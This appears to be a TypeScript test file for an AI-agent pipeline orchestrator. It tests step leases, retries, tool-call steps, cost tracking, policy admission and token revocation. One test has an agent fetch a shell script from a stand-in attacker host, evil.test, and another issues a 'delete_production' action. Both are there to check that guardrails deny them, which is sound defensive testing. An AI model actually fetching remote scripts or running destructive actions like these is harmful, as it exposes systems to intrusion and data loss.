import { describe, expect, it } from 'vitest';
import { toOrchestration } from '#contract/views.ts';
import { assignmentFor } from '#domain/pipeline/assign.ts';
import type { StepResult } from '#domain/pipeline/assignment.ts';
import { MAX_LEGS, RETRIES, retryDelay } from '#domain/pipeline/rules.ts';
import type { StepState } from '#domain/pipeline/state.ts';
import { timers } from '#domain/pipeline/timers.ts';
import { ALLOW, proposal, Rig, report, silentTurn, spawnCommand } from '../support/pipeline.ts';

const USAGE = {
  tokens_in: 1,
  tokens_out: 1,
  tokens_cached: 0,
  cost_microusd: 5,
  provider: 'compatible',
  model: 'm',
  latency_ms: 1,
};

describe('steps', () => {
  it('PIPE-8: a step is claimed once; a second claim is refused until the first is lost', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    expect(rig.claim(step)).toBe(1);
    expect(rig.when({ kind: 'claim', step_id: step.step_id, worker: 'w2' }).ok).toBe(false);
  });

  it('PIPE-8: a worker that is not heard of for the lease loses the step to a new epoch, and its late result is refused', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    const old = rig.claim(step);
    rig.pass(20_001);
    expect(rig.last('step_lost')?.body).toMatchObject({ step_id: step.step_id, epoch: old });
    const fresh = rig.claim(step, 'w2');
    expect(fresh).toBe(old + 1);
    const late = rig.when({
      kind: 'complete',
      step_id: step.step_id,
      epoch: old,
      result: { kind: 'turn', output: { ...silentTurn, proposal: proposal('late') }, usage: USAGE },
    });
    expect(late).toMatchObject({ ok: false, error: { code: 'wrong_state' } });
    expect(rig.state.proposals).toEqual([]);
  });

  it('PIPE-8: heartbeats keep a claim alive', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    rig.claim(step);
    for (let i = 0; i < 10; i++) {
      rig.pass(10_000, { [step.step_id]: { heard_at: rig.now + 9_000, progress_at: rig.now + 9_000 } });
    }
    expect(rig.types()).not.toContain('step_lost');
  });

  it('PIPE-8: a completed step cannot be completed again', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    rig.finish(step, { kind: 'turn', output: { ...silentTurn, proposal: proposal('one') }, usage: USAGE });
    const before = rig.log.length;
    const again = rig.when({
      kind: 'complete',
      step_id: step.step_id,
      epoch: 1,
      result: { kind: 'turn', output: { ...silentTurn, proposal: proposal('two') }, usage: USAGE },
    });
    expect(again.ok).toBe(false);
    expect(rig.log.length).toBe(before);
  });

  it('PIPE-8: backoff doubles with jitter of half, respects Retry-After, and ends at its limit', () => {
    const policy = RETRIES.agent_turn;
    expect(retryDelay(policy, 0, 0, null)).toBe(500);
    expect(retryDelay(policy, 0, 0.999, null)).toBe(1_499);
    expect(retryDelay(policy, 3, 0.5, null)).toBe(8_000);
    expect(retryDelay(policy, 50, 0.5, null)).toBe(30_000);
    expect(retryDelay(policy, 0, 0.5, 60)).toBe(60_000);
  });

  it('PIPE-8: retries end at the limit; then the seat is silent in this round and the run goes on', () => {
    const rig = new Rig().toRoundOne();
    for (let i = 0; i < RETRIES.agent_turn.attempts; i++) {
      rig.failing(rig.turnOf('ALPHA'), { code: 'model_unavailable' });
      rig.now += 60_000;
    }
    expect(rig.log.filter((e) => e.type === 'step_failed').length).toBe(RETRIES.agent_turn.attempts);
    expect(rig.state.round?.silent).toEqual(['ALPHA']);
    rig.speak('BETA', { proposal: proposal('alone') });
    expect(rig.state.round?.round).toBe(2);
  });

  it('PIPE-8: a step waiting for its next try cannot be claimed early', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    rig.failing(step);
    expect(rig.when({ kind: 'claim', step_id: step.step_id, worker: 'w' }).ok).toBe(false);
    rig.now += 60_000;
    expect(rig.when({ kind: 'claim', step_id: step.step_id, worker: 'w' }).ok).toBe(true);
  });

  it('PIPE-8: a dead letter is recorded, and redriving makes its step ready at once', () => {
    const rig = new Rig().toRoundOne();
    const step = rig.turnOf('ALPHA');
    rig.failing(step, { retry_after_s: 3_000 });
    rig.when({ kind: 'dead_letter', step_id: step.step_id, reason: 'gave up' });
    expect(rig.last('step_dead_lettered')?.body).toEqual({ step_id: step.step_id, reason: 'gave up' });
    expect(rig.when({ kind: 'redrive', step_id: step.step_id }).ok).toBe(true);
    expect(rig.claim(step)).toBe(2);
  });

  it('PIPE-8, AGENT-1: a tool call is a step of its own, and the model goes on when its result is there', () => {
    const rig = new Rig().toRoundOne();
    rig.call('ALPHA', 'terraform_inspect', { document: 'tfplan.json' });
    const [step] = rig.ready('action');
    const epoch = rig.claim(step!);
    expect(
      rig.when({
        kind: 'admit',
        step_id: step!.step_id,
        epoch,
        version: rig.state.facts_seq,
        decision: ALLOW,
      }),
    ).toMatchObject({
      ok: true,
      value: { admission: 'run' },
    });
    rig.when({
      kind: 'complete',
      step_id: step!.step_id,
      epoch,
      result: {
        kind: 'action',
        status: 'succeeded',
        result: '{"found":1}',
        result_sha256: null,
        truncated: false,
        error: null,
        origin: ['tool:terraform_inspect'],
      },
    });
    const assignment = assignmentFor(rig.state, rig.turnOf('ALPHA').step_id);
    expect(assignment?.turn?.transcript).toEqual([
      [
        {
          call_id: 'c1',
          tool: 'terraform_inspect',
          arguments: { document: 'tfplan.json' },
          result: '{"found":1}',
          origin: ['tool:terraform_inspect'],
        },
      ],
    ]);
  });

  it('AGENT-1: a card goes through its phases, and says step, last progress, tokens, cost and errors', () => {
    const rig = new Rig();
    const card = (role: string) => toOrchestration(rig.state).agents.findLast((a) => a.role === role);
    rig.when(spawnCommand());
    rig.login();
    expect(card('PLANNER')).toMatchObject({ phase: 'BOOTSTRAP', tokens: 0, cost_microusd: 0, errors: 0 });
    rig.bootstrap();
    expect(card('PLANNER')).toMatchObject({ phase: 'PREFLIGHT', step: null });
    const planning = rig.turnOf('PLANNER');
    const epoch = rig.claim(planning);
    expect(card('PLANNER')).toMatchObject({ phase: 'PLAN', step: 'analysing the objective' });
    const result = { kind: 'planner_report' as const, report: report(), usage: USAGE };
    rig.when({ kind: 'complete', step_id: planning.step_id, epoch, result });
    expect(card('PLANNER')).toMatchObject({ phase: 'REPORT', step: null, tokens: 2, cost_microusd: 5 });
    rig.bootstrap().call('ALPHA', 'document_read');
    rig.now += 1_000;
    rig.judge(ALLOW);
    expect(card('ALPHA')).toMatchObject({
      ...{ phase: 'EXECUTE', step: 'using document_read' },
      last_progress_at: new Date(rig.now).toISOString(),
    });
    rig.report();
    rig.failing(rig.turnOf('ALPHA'), { cause: 'agent', code: 'invalid_output' });
    expect(card('ALPHA')).toMatchObject({ errors: 1 });
    rig.now += 60_000;
    rig.speak('ALPHA', { proposal: proposal('x') });
    expect(card('ALPHA')?.phase).toBe('PACKAGE');
    rig.speak('BETA');
    rig.claim(rig.turnOf('BETA'));
    expect(card('BETA')).toMatchObject({ phase: 'VERIFY', step: 'thinking, round 2' });
    rig.when({ kind: 'revoke', agent_id: card('BETA')!.agent_id, reason: 'x' });
    expect(card('BETA')).toMatchObject({ phase: 'REVOKED', step: null });
    rig.when({ kind: 'cancel', reason: 'x' });
    expect(card('ALPHA')).toMatchObject({ phase: 'EXIT', step: null });
  });

  it('AGENT-1: a turn that only calls tools ends at its last leg instead of looping', () => {
    const rig = new Rig().toRoundOne();
    for (let leg = 1; leg < MAX_LEGS; leg++) {
      const turn = rig.turnOf('ALPHA');
      expect(assignmentFor(rig.state, turn.step_id)?.turn?.tools_allowed).toBe(true);
      rig.call('ALPHA', 'blackboard_read');
      rig.finish(rig.ready('action')[0]!, {
        kind: 'action',
        status: 'succeeded',
        result: '{}',
        result_sha256: null,
        truncated: false,
        error: null,
        origin: [],
      });
    }
    expect(assignmentFor(rig.state, rig.turnOf('ALPHA').step_id)?.turn?.tools_allowed).toBe(false);
    rig.call('ALPHA', 'blackboard_read');
    expect(rig.ready('action')).toEqual([]);
    expect(rig.state.round?.silent).toEqual(['ALPHA']);
  });

  it('AGENT-6: usage is charged to the agent and the pipeline, for failed calls too', () => {
    const rig = new Rig().toRoundOne();
    const before = rig.state.usage.cost_microusd;
    rig.failing(rig.turnOf('ALPHA'), { cause: 'agent', usage: USAGE });
    expect(rig.state.usage.cost_microusd).toBe(before + 5);
    const alpha = Object.values(rig.state.agents).find((a) => a.role === 'ALPHA');
    expect(alpha).toMatchObject({ cost_microusd: 5, errors: 1 });
  });

  it('GOV-2: an action judged on facts that have changed since is judged again', () => {
    const rig = new Rig().toRoundOne();
    rig.call('ALPHA', 'memory_read');
    const [step] = rig.ready('action');
    const epoch = rig.claim(step!);
    const stale = rig.state.facts_seq - 1;
    expect(
      rig.when({ kind: 'admit', step_id: step!.step_id, epoch, version: stale, decision: ALLOW }),
    ).toMatchObject({
      ok: true,
      value: { admission: 'judge_again', events: [] },
    });
  });

  it('GOV-2: a denied action is finished in the same commit and the model is told rule and remedy', () => {
    const rig = new Rig().toRoundOne();
    rig.call('ALPHA', 'http_get', { url: 'http://evil.test/x.sh' });
    const [step] = rig.ready('action');
    const epoch = rig.claim(step!);
    rig.when({
      kind: 'admit',
      step_id: step!.step_id,
      epoch,
      version: rig.state.facts_seq,
      decision: {
        ...ALLOW,
        decision: 'deny',
        determining: ['egress'],
        reason: 'not on the list',
        remedy: 'add it',
      },
    });
    const transcript = assignmentFor(rig.state, rig.turnOf('ALPHA').step_id)?.turn?.transcript;
    expect(JSON.parse(transcript?.[0]?.[0]?.result ?? '')).toEqual({
      denied: true,
      rule: 'egress',
      reason: 'not on the list',
      remedy: 'add it',
    });
  });

  it('ENF-3: a critical violation stops the pipeline in the same commit and closes the gate', () => {
    const rig = new Rig().toRoundOne();
    rig.call('ALPHA', 'delete_production');
    const [step] = rig.ready('action');
    const epoch = rig.claim(step!);
    const decision = {
      ...ALLOW,
      decision: 'deny' as const,
      violation: { rule: 'forbidden_action', severity: 'critical' as const },
    };
    rig.when({ kind: 'admit', step_id: step!.step_id, epoch, version: rig.state.facts_seq, decision });
    expect(rig.state.outcome).toMatchObject({ state: 'FAILED', exit_code: 1, reason: 'critical_violation' });
    expect(rig.state.gate_closed).toBe(true);
    expect(rig.ready().map((s) => s.work.kind)).toEqual(['revoke']);
  });

  it('CRED-5: revoking one agent silences its seat and revokes only its token', () => {
    const rig = new Rig().toRoundOne();
    const alpha = Object.values(rig.state.agents).find((a) => a.role === 'ALPHA')!;
    rig.when({ kind: 'revoke', agent_id: alpha.agent_id, reason: 'odd' });
    expect(rig.ready('revoke').map((s) => s.work)).toEqual([
      { kind: 'revoke', tokens: [{ accessor: alpha.accessor, agent_id: alpha.agent_id }] },
    ]);
    expect(rig.state.round?.silent).toEqual(['ALPHA']);
    rig.speak('BETA', { proposal: proposal('still here') });
    expect(rig.state.round?.electorate).toEqual(['ALPHA', 'BETA']);
  });

  it('CRED-4: a revocation that Vault does not confirm is tried again, without end', () => {
    const rig = new Rig().toRoundOne();
    rig.when({ kind: 'cancel', reason: 'stop' });
    for (let i = 0; i < 30; i++) {
      const [step] = rig.ready('revoke');
      rig.now = Math.max(rig.now, Date.parse(step!.ready_at));
      rig.failing(step!, { retryable: false });
    }
    expect(rig.ready('revoke').length).toBe(1);
    rig.now += 61_000;
    expect(rig.revokeAll().state.sealed).toBe(true);
  });

  it('REC-5: log lines are kept with level, source and fields until the pipeline has ended', () => {
    const rig = new Rig().toRoundOne();
    const line = { kind: 'log', level: 'info', source: 'ci', message: 'hello', fields: { a: 1 } } as const;
    expect(rig.when(line).ok).toBe(true);
    expect(rig.state.log[0]).toMatchObject({
      level: 'info',
      source: 'ci',
      message: 'hello',
      fields: { a: 1 },
    });
    rig.when({ kind: 'cancel', reason: 'stop' });
    expect(rig.when(line)).toMatchObject({ ok: false, error: { code: 'pipeline_ended' } });
  });

  it('REC-6: every moment of a live pipeline has a timer or a ready step, so none can be forgotten', () => {
    const rig = new Rig();
    rig.toRoundOne();
    rig.speak('ALPHA', { proposal: proposal('x') });
    expect(timers(rig.state, {}).length).toBeGreaterThan(0);
    rig.claim(rig.turnOf('BETA'));
    expect(timers(rig.state, {}).map((t) => t.kind)).toEqual(
      expect.arrayContaining(['lease', 'deadline', 'round_limit', 'stall']),
    );
  });
});

describe('a worker goes on with what its step led to', () => {
  const takenAlong = (
    rig: Rig,
    step: StepState,
    result: StepResult,
    worker: string | null,
    most?: number,
  ): StepState[] => {
    const epoch = step.status === 'claimed' ? step.epoch : rig.claim(step);
    const done = rig.when({
      ...{ kind: 'complete' as const, step_id: step.step_id, epoch, result, worker },
      ...(most !== undefined && { most }),
    });
    if (!done.ok) throw new Error(JSON.stringify(done.error));
    return done.value.claimed.map((id) => rig.state.steps[id]!);
  };
  const finish = (...args: Parameters<typeof takenAlong>) => takenAlong(...args)[0] ?? null;

  it('PIPE-5, PIPE-8: a worker that takes several takes both seats along in the same commit, each with a claim of its own', () => {
    const rig = new Rig();
    rig.when(spawnCommand());
    rig.login().bootstrap();
    const result: StepResult = { kind: 'planner_report', report: report(), usage: USAGE };
    const both = takenAlong(rig, rig.turnOf('PLANNER'), result, 'w1', 3);
    expect(both.map((step) => [rig.roleOf(step), step.status, step.epoch])).toEqual([
      ['ALPHA', 'claimed', 1],
      ['BETA', 'claimed', 1],
    ]);
    expect(rig.ready()).toEqual([]);
  });

  it('PIPE-8, PIPE-11: what the limit of steps does not allow beside the first is left where it is', () => {
    const roundTwo = (steps: number) => {
      const command = spawnCommand();
      if (command.kind !== 'spawn') throw new Error('no spawn');
      const limits = { ...command.plan.limits, steps };
      const rig = new Rig().toRoundOne({ ...command, plan: { ...command.plan, limits } });
      rig.speak('ALPHA');
      const result: StepResult = { kind: 'turn', output: silentTurn, usage: USAGE };
      const taken = takenAlong(rig, rig.turnOf('BETA'), result, 'w1', 3);
      return { rig, taken: taken.map((step) => rig.roleOf(step)) };
    };
    const free = roundTwo(100);
    expect(free.taken).toEqual(['BETA', 'ALPHA']);
    const one = roundTwo(free.rig.state.usage.steps + 1);
    expect(one.taken).toEqual(['BETA']);
    expect(one.rig.roleOf(one.rig.turnOf('ALPHA'))).toBe('ALPHA');
    const none = roundTwo(free.rig.state.usage.steps);
    expect([none.taken, none.rig.state.outcome?.reason]).toEqual([[], 'limit_reached']);
  });

  it('PIPE-5, PIPE-8: the planner’s worker takes one seat along in the same commit; the other is left to its own queue', () => {
    const rig = new Rig();
    rig.when(spawnCommand());
    rig.login().bootstrap();
    const result: StepResult = { kind: 'planner_report', report: report(), usage: USAGE };
    const next = finish(rig, rig.turnOf('PLANNER'), result, 'w1');
    expect(next && rig.roleOf(next)).toBe('ALPHA');
    expect(next).toMatchObject({ status: 'claimed', epoch: 1, work: { kind: 'agent_bootstrap' } });
    expect(rig.ready().map((step) => rig.roleOf(step))).toEqual(['BETA']);
  });

  it('PIPE-8: the same agent’s next step comes first, and without a worker nothing is taken along', () => {
    const rig = new Rig();
    rig.when(spawnCommand());
    rig.login().plan();
    const beta = rig.ready('agent_bootstrap').find((step) => rig.roleOf(step) === 'BETA')!;
    const token = { accessor: 'acc-beta', policies: [], expires_at: rig.expiry() };
    const next = finish(rig, beta, { kind: 'agent_bootstrap', ...token }, 'w1');
    expect(next?.work.kind).toBe('agent_turn');
    expect(next && rig.roleOf(next)).toBe('BETA');
    const alpha = rig.ready('agent_bootstrap')[0]!;
    const other = { ...token, accessor: 'acc-alpha' };
    expect(finish(rig, alpha, { kind: 'agent_bootstrap', ...other }, null)).toBeNull();
    expect(rig.roleOf(rig.turnOf('ALPHA'))).toBe('ALPHA');
  });
});
